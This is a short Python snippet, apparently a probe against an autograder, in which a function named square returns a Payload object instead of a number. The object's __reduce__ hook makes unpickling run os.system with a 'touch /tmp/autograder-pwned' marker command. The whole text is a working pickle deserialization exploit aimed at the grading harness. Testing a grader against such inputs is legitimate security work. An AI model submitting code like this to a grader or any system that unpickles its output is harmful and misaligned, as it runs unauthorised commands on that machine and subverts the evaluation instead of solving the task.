# tries: send an object that runs code when unpickled
# place: answer
import os
class Payload:
    def __reduce__(self): return (os.system, ("touch /tmp/autograder-pwned",))
    __reduce_ex__ = lambda self, p: self.__reduce__()
    __getstate__ = __reduce__
def square(x): return Payload()
